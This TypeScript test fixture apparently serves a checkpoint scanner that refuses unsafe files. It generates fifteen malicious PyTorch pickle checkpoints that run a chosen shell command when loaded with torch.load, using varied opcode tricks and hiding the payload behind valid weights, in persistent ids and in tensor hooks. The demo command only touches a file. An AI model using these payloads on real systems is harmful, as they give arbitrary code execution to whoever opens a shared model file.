/**
 * Pickles that run a command in whoever loads them with Python.
 *
 *     node dist/test/checkpoint/support/attacks.js DIR
 *
 * writes each as a torch archive; `torch.load(FILE, weights_only=False)` then touches DIR/touched, which shows that they
 * are real.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { torchArchive } from './archive.js';
import { dict, global, list, pickle, stackGlobal, tensor, text, tuple } from './pickles.js';

export interface Attack {
  /** What its pickle calls for, as the refusal names it. */
  readonly calls: string;
  readonly bytes: Buffer;
}

/** @param command what is to be run */
export function attacks(command: string): Readonly<Record<string, Attack>> {
  const python = `__import__('os').system('${command}')`;
  const system = global('posix', 'system');
  // Runs when it is looped over, which `bytes` does.
  const mapped = `${global('builtins', 'map')}${tuple(system, list(text(command)))}`;
  const good = dict({ weight: tensor() });
  return {
    'GLOBAL and REDUCE': { calls: 'posix.system', bytes: pickle(system, tuple(text(command)), 'R') },
    'STACK_GLOBAL, protocol 4': {
      calls: 'posix.system',
      bytes: pickle('\x80\x04', stackGlobal('posix', 'system'), text(command), '\x85R'),
    },
    'a name from the memo': {
      calls: 'builtins.eval',
      bytes: pickle(
        text('builtins'),
        'q\x010',
        text('eval'),
        'q\x020',
        'h\x01h\x02\x93',
        text(python),
        '\x85R',
      ),
    },
    INST: { calls: 'posix.system', bytes: pickle(`(${text(command)}iposix\nsystem\n`) },
    OBJ: { calls: 'posix.system', bytes: pickle(`(${system}${text(command)}o`) },
    'text opcodes of protocol 0': {
      calls: '__builtin__.eval',
      bytes: Buffer.from(`c__builtin__\neval\n(S"${python}"\ntR.`, 'latin1'),
    },
    NEWOBJ: {
      calls: 'builtins.map',
      bytes: pickle(global('builtins', 'bytes'), `${mapped}\x81`, '\x85\x81'),
    },
    'NEWOBJ_EX with named arguments': {
      calls: 'builtins.map',
      bytes: pickle('\x80\x04', stackGlobal('builtins', 'bytes'), `${mapped}}\x92`, '\x85}\x92'),
    },
    'BUILD of what has a __setstate__': {
      calls: 'functools.partial',
      bytes: pickle(
        global('functools', 'partial'),
        tuple(global('builtins', 'print')),
        'R',
        tuple(system, tuple(text(command)), '}', 'N'),
        'b)R',
      ),
    },
    'BUILD that changes a class': {
      calls: 'types.SimpleNamespace',
      bytes: pickle(
        global('types', 'SimpleNamespace'),
        ')R',
        dict({ run: `${system}${tuple(text(command))}R` }),
        'b',
      ),
    },
    'behind weights that are all right': {
      calls: 'posix.system',
      bytes: pickle(good, 'q\x010', system, tuple(text(command)), 'R0h\x01'),
    },
    'as a key beside the weights': {
      calls: 'posix.system',
      bytes: pickle('}(', text('state_dict'), good, text('epoch'), system, tuple(text(command)), 'Ru'),
    },
    'inside a persistent id': {
      calls: 'posix.system',
      bytes: pickle(
        tuple(text('storage'), `${system}${tuple(text(command))}R`, text('0'), text('cpu'), 'K\x06'),
        'Q',
      ),
    },
    'in the hooks of a tensor': {
      calls: 'posix.system',
      bytes: pickle(tensor().slice(0, -2), system, tuple(text(command)), 'RtR'),
    },
    'a loader of torch itself': {
      calls: 'torch.serialization.os.system',
      bytes: pickle('\x80\x04', stackGlobal('torch.serialization', 'os.system'), text(command), '\x85R'),
    },
  };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const folder = process.argv[2] ?? 'attacks';
  mkdirSync(folder, { recursive: true });
  const six = new Uint8Array(24);
  for (const [name, { bytes }] of Object.entries(attacks(`touch ${join(folder, 'touched')}`))) {
    writeFileSync(join(folder, `${name.replace(/\W+/g, '-')}.pth`), torchArchive(bytes, { 0: six }));
  }
}
